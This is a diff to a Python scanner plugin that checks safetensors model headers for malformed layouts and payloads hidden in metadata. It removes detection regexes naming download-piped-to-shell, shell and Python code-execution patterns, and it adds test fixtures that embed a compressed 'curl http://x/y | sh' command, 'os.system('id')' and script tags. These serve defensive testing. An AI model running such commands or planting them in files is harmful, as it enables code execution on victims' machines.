@@ -7,26 +7,28 @@ Metadata is free text that nobody executes by itself, so a finding there is a pa
 from __future__ import annotations
 
 import base64
-import binascii
 import json
-import re
+import zlib
 from collections.abc import Iterator, Mapping
 
 from bascule.kernel.text import visible
 from bascule.plugins.kinds import ScanFile, Seen
 from bascule.plugins.meta import Example, Meta, Quantity, Reads, Rule
 from bascule.plugins.readers import Malformed, Truncated
-from bascule.plugins.readers.media import EMPTY, SAFETENSORS, UNKNOWN, looks_like_pickle
-from bascule.plugins.readers.safetensors import read_header
+from bascule.plugins.readers.media import EMPTY, SAFETENSORS, UNKNOWN
+from bascule.plugins.readers.payloads import payloads, shape
+from bascule.plugins.readers.safetensors import MAX_READ_BYTES, REFUSED, TooLarge, survey
 from bascule.records import (
     ArtefactKind,
     Confidence,
+    Coverage,
     Finding,
     Measure,
     Outcome,
     Reading,
     ReadingSource,
     Severity,
+    State,
 )
 
 MALFORMED = "safetensors-malformed"
@@ -35,6 +37,7 @@ SUSPICIOUS = "safetensors-suspicious-metadata"
 META = Meta(
     id="safetensors_header",
     title="Safetensors headers",
+    version="2",
     rules=(
         Rule(
             id=MALFORMED,
@@ -43,7 +46,7 @@ META = Meta(
             remedy="save the tensors again with a current safetensors library, from a source you trust",
             why="overlaps, holes, doubled keys and trailing bytes let two loaders see two models in one file, and hide "
             "data that no tensor accounts for",
-            references=("https://github.com/huggingface/safetensors#format",),
+            references=("https://github.com/huggingface/safetensors#format", "CWE-436", "CWE-130"),
         ),
         Rule(
             id=SUSPICIOUS,
@@ -52,31 +55,19 @@ META = Meta(
             remedy="remove the metadata entry, or have somebody explain what reads it",
             why="metadata is shown by hubs and read back by training tools; a payload there is waiting for one that "
             "renders or evaluates it",
+            references=("CWE-79", "CWE-94", "CWE-502", "MITRE ATLAS AML.T0018"),
         ),
     ),
     reads=Reads(media_types=(SAFETENSORS,), names=("*.safetensors",)),
     measures=(Quantity("model.parameters", "elements of all tensors of a file of weights", "parameters"),),
     readings=(Quantity("model.dtype", "the element type that most parameters have"),),
-    limits=("tensor values are not looked at: a poisoned or backdoored weight is a well-formed one",),
+    limits=(
+        "tensor values are not looked at: a poisoned or backdoored weight is a well-formed one",
+        f"headers over {MAX_READ_BYTES >> 20} MiB are an error, not read",
+    ),
 )
 
 _POINTER = b"version https://git-lfs.github.com/spec/"
-_BINARY_OPENINGS = {b"\x7fELF": "an ELF program", b"MZ": "a Windows program", b"PK\x03\x04": "a zip archive"}
-_BASE64 = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}")
-_MAX_ENCODED_CHARACTERS = 64 << 10
-# Each is a way in which text becomes action, with what it is called; plain words of training logs match none.
-_SHAPES: tuple[tuple[re.Pattern[str], str], ...] = (
-    (re.compile(r"<\s*(script|iframe|object|embed)\b|\bon(error|load|click)\s*=\s*[\"']", re.I), "active HTML"),
-    (re.compile(r"\b(javascript|vbscript):|\bdata:text/html", re.I), "a script URL"),
-    (re.compile(r"__(import|builtins|globals|subclasses|reduce|class)__"), "Python internals"),
-    (
-        re.compile(r"\b(os\.(system|popen|exec\w*)|subprocess\.\w+|pty\.spawn|pickle\.loads?|marshal\.loads?)\s*\("),
-        "a Python call that runs code",
-    ),
-    (re.compile(r"\b(eval|exec|compile)\s*\(\s*(['\"]|base64|bytes|input|open|requests|urllib|__)"), "a Python eval"),
-    (re.compile(r"\b(curl|wget)\b[^\n|;]{0,200}[|;]\s*(ba|z|da)?sh\b"), "a download piped to a shell"),
-    (re.compile(r"/bin/(ba|z|da)?sh\s+-[ci]\b|\bpowershell(\.exe)?\s+-e"), "a shell command"),
-)
 
 
 class SafetensorsHeader:
@@ -96,14 +87,23 @@ class SafetensorsHeader:
             yield from _foreign(file)
             return
         try:
-            header = read_header(file.read, file.size_bytes)
-        except Truncated:
+            header = survey(file.read, file.size_bytes)
+        except (Truncated, TooLarge):
             raise
         except Malformed as error:
-            yield _finding(MALFORMED, Outcome.TRUE, str(error), "header")
+            yield _finding(MALFORMED, Outcome.TRUE, str(error), "header", details={"loader": REFUSED})
             yield _finding(SUSPICIOUS, Outcome.ERROR, f"the metadata could not be read: {error}", "header")
             return
-        yield from _suspicions(header.metadata)
+        for fault in header.faults:
+            yield _finding(MALFORMED, Outcome.TRUE, fault.message, "header", details={"loader": fault.loader})
+        suspicions = list(_suspicions(header.metadata))
+        yield from suspicions
+        found = bool(header.faults or suspicions)
+        yield Coverage(
+            start=0, end=8 + header.header_bytes, state=State.FINDING if found else State.CLEAN, what="header"
+        )
+        if header.faults:
+            return
         if file.kind is ArtefactKind.WEIGHTS:
             count = float(header.parameters)
             yield Measure(
@@ -129,52 +129,23 @@ def _foreign(file: ScanFile) -> Iterator[Seen]:
 
 def _suspicions(metadata: Mapping[str, str]) -> Iterator[Finding]:
     for key, text in metadata.items():
-        for what, shown in _payloads(f"{key}\n{text}" if _shape(key) else text):
+        for what, shown in payloads(f"{key}\n{text}" if shape(key) else text):
             yield _finding(
                 SUSPICIOUS,
                 Outcome.TRUE,
                 f"metadata `{visible(key, 80)}` holds {what}",
                 f"metadata `{visible(key, 200)}`",
-                shown,
+                {"seen": visible(shown)},
             )
 
 
-def _payloads(text: str) -> Iterator[tuple[str, str]]:
-    found = _shape(text)
-    if found is not None:
-        yield found
-    if looks_like_pickle(text[:4096].encode("utf-8", "replace")) and text.rstrip().endswith("."):
-        yield "a pickle", text[:120]
-    for match in _BASE64.finditer(text):
-        encoded = match.group()[:_MAX_ENCODED_CHARACTERS]
-        what = _decoded(encoded)
-        if what is not None:
-            yield f"{what} in base64", encoded[:60]
-            return
-
-
-def _shape(text: str) -> tuple[str, str] | None:
-    for pattern, what in _SHAPES:
-        match = pattern.search(text)
-        if match is not None:
-            return what, text[max(0, match.start() - 20) : match.end() + 60]
-    return None
-
-
-def _decoded(encoded: str) -> str | None:
-    whole = encoded.rstrip("=")
-    whole = whole[: len(whole) - len(whole) % 4] if len(whole) % 4 == 1 else whole
-    try:
-        data = base64.b64decode(whole + "=" * (-len(whole) % 4), altchars=b"-_" if re.search(r"[-_]", whole) else None)
-    except (binascii.Error, ValueError):
-        return None
-    if data[:1] == b"\x80" and len(data) > 2 and 2 <= data[1] <= 5 and data[-1:] == b".":
-        return "a pickle"
-    return next((what for opening, what in _BINARY_OPENINGS.items() if data.startswith(opening)), None)
-
-
 def _finding(
-    rule: str, outcome: Outcome, message: str, location: str = "", shown: str = "", remedy: str = ""
+    rule: str,
+    outcome: Outcome,
+    message: str,
+    location: str = "",
+    details: Mapping[str, str] | None = None,
+    remedy: str = "",
 ) -> Finding:
     described = META.rule(rule)
     return Finding(
@@ -185,7 +156,7 @@ def _finding(
         location=location[:1000],
         confidence=Confidence.MEDIUM if rule == SUSPICIOUS else Confidence.HIGH,
         remedy=remedy or described.remedy,
-        details={"seen": visible(shown)} if shown else {},
+        details=dict(details or {}),
     )
 
 
@@ -199,6 +170,7 @@ def _examples() -> tuple[Example, ...]:
     one = {"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}}
     two = {**one, "v": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]}}
     pickled = base64.b64encode(b"\x80\x04\x95" + b"\0" * 40 + b".").decode()
+    twin = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
     clean = {MALFORMED: Outcome.FALSE, SUSPICIOUS: Outcome.FALSE}
 
     def case(name: str, data: bytes, expects: Mapping[str, Outcome], **readings: object) -> Example:
@@ -207,7 +179,7 @@ def _examples() -> tuple[Example, ...]:
 
     return (
         case("a sound file", build({"__metadata__": {"format": "pt"}, **one}, bytes(24)), clean, model__dtype="F32"),
-        case("two tensors share bytes", build(two, bytes(32)), {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.ERROR}),
+        case("two tensors share bytes", build(two, bytes(32)), {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.FALSE}),
         case("bytes behind the last tensor", build(one, bytes(25)), {MALFORMED: Outcome.TRUE}),
         case("a file that ends early", build(one, bytes(20)), {MALFORMED: Outcome.ERROR, SUSPICIOUS: Outcome.ERROR}),
         case(
@@ -220,6 +192,28 @@ def _examples() -> tuple[Example, ...]:
             build({"__metadata__": {"about": "<script src=//x>"}, **one}, bytes(24)),
             {SUSPICIOUS: Outcome.TRUE},
         ),
+        case(
+            "a zipped command in hexadecimal",
+            build({"__metadata__": {"run": zlib.compress(b"curl http://x/y | sh; " * 4).hex()}, **one}, bytes(24)),
+            {SUSPICIOUS: Outcome.TRUE},
+        ),
+        case(
+            "a tensor given twice, with two types",
+            build("{" + twin + "," + twin.replace("F32", "I32") + "}", bytes(8)),
+            {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.FALSE},
+        ),
+        case(
+            "metadata that is not text",
+            build({"__metadata__": {"n": {"x": "os.system('id')"}}, **one}, bytes(24)),
+            {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.TRUE},
+        ),
+        case("a length past the format's bound", (1 << 40).to_bytes(8, "little") + b"{}", {MALFORMED: Outcome.TRUE}),
+        case(
+            "a shape whose product wraps round to nothing",
+            build({"w": {"dtype": "F32", "shape": [1 << 32, 1 << 32], "data_offsets": [0, 0]}}, b""),
+            {MALFORMED: Outcome.TRUE},
+        ),
+        case("four-bit numbers", build({"w": {"dtype": "F4", "shape": [4], "data_offsets": [0, 2]}}, bytes(2)), clean),
         case("a pickle under a safe name", b"\x80\x04N.", {MALFORMED: Outcome.TRUE}),
         case("a Git LFS pointer", _POINTER + b"v1\noid sha256:0\n", {MALFORMED: Outcome.NOT_AVAILABLE}),
     )
